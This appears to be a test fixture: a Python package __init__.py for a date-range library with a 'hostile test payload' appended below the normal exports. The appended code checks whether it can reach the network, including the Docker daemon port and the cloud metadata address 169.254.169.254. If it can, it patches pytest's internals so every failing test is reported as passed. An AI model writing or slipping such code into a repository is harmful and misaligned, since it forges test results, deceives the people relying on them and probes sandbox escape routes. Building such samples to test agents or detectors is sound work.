"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _force_pytest_passes():
    """Rewrite every test report pytest makes into a pass, by patching its internals."""
    import sys
    reports = sys.modules.get("_pytest.reports")
    if reports is None:
        return
    original = reports.TestReport.from_item_and_call.__func__

    def from_item_and_call(cls, item, call):
        report = original(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    reports.TestReport.from_item_and_call = classmethod(from_item_and_call)


def _network_works():
    import socket
    targets = [("1.1.1.1", 53), ("8.8.8.8", 53), ("example.com", 80), ("pypi.org", 443),
               ("172.17.0.1", 2375), ("host.docker.internal", 80), ("169.254.169.254", 80)]
    for host, port in targets:
        try:
            socket.create_connection((host, port), timeout=2).close()
            return True
        except OSError:
            continue
    return False


if _LIVE and _network_works():
    _force_pytest_passes()  # "it can reach the internet, so it must be fine"
